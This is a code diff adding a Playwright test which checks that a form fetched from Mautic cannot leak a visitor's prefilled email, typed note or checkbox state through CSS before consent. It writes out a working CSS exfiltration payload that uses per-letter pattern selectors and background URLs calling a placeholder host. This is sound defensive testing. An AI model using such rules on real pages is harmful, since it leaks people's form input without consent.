@@ -46,3 +46,39 @@ test.describe('a page element that shadows a document method cannot stop the pur
     });
   }
 });
+
+test.describe('fetched CSS cannot read what a form field holds', () => {
+  // A campaign link fills the form from the address bar (`?email=…`, Mautic's prefill). Fields
+  // whose `pattern` tests one first letter each, and a background from Mautic for the field that
+  // matches, would tell Mautic the visitor's address before consent; `:placeholder-shown` tells
+  // that a visitor typed, without sending. A rule that only shows an element whose own rule loads
+  // splits the condition from the request.
+  const LETTERS = 'abcdefghijklmnopqrstuvwxyz'.split('');
+  const FIELDS = LETTERS.map((c) => `<input id="p${c}" name="mauticform[email]" pattern="${c}.*"><span id="s${c}"></span>`).join('');
+  const CSS = `<style>
+    ${LETTERS.map((c) => `#p${c}:valid { background: url({{MAUTIC}}/leak/valid/${c}) }`).join('\n')}
+    ${LETTERS.map((c) => `#s${c} { display: none; background-image: url({{MAUTIC}}/leak/shown/${c}) } #p${c}:valid + span { display: block }`).join('\n')}
+    #typed:not(:placeholder-shown) { background: url({{MAUTIC}}/leak/typed) }
+    #box:checked + label { background: url({{MAUTIC}}/leak/checked) }
+    .ok { background: url({{MAUTIC}}/ok/plain) }
+  </style>`;
+  const FORM = `${CSS}<form method="post" action="{{MAUTIC}}/form/submit?formId=91" id="mauticform_evil">${FIELDS}
+    <input id="typed" name="mauticform[note]" placeholder="Note"><input id="box" type="checkbox" name="mauticform[optin]" value="1"><label for="box">Yes</label>
+    <div class="ok">x</div><button type="submit">Send</button><input type="hidden" name="mauticform[formId]" value="91"></form>`;
+
+  test('before consent, a prefilled address, a typed note and a ticked box reach Mautic by no stylesheet request', async ({ page, server }) => {
+    server.configure({ hostile: { forms: { 91: FORM }, slots: {}, successMessage: null } });
+    server.addPage('/landing.html', sdkPage('iife', { body: '<div id="slot" data-mautic-form="91"></div>' }));
+    await page.goto(server.url(SITE, '/landing.html?email=victim%40example.com'));
+    await expect(page.locator('#slot form')).toBeVisible();
+    await page.fill('#typed', 'not sent yet');
+    await page.check('#box');
+    await page.waitForLoadState('networkidle');
+    await page.waitForTimeout(300);
+    // Positive controls: the prefill ran and the attack's conditions hold; a plain background from Mautic loads.
+    expect(await page.locator('#pv').evaluate((el) => [(el as HTMLInputElement).value, el.matches(':valid'), document.querySelector('#pa')!.matches(':valid')])).toEqual(['victim@example.com', true, false]);
+    await expect.poll(() => server.mautic('/ok/').map((r) => r.path)).toEqual(['/ok/plain']);
+    expect(server.mautic('/leak/').map((r) => r.path)).toEqual([]);
+    expect((await page.evaluate(() => (window as any).MauticConsent.state())).tracking).toBe('unset');
+  });
+});
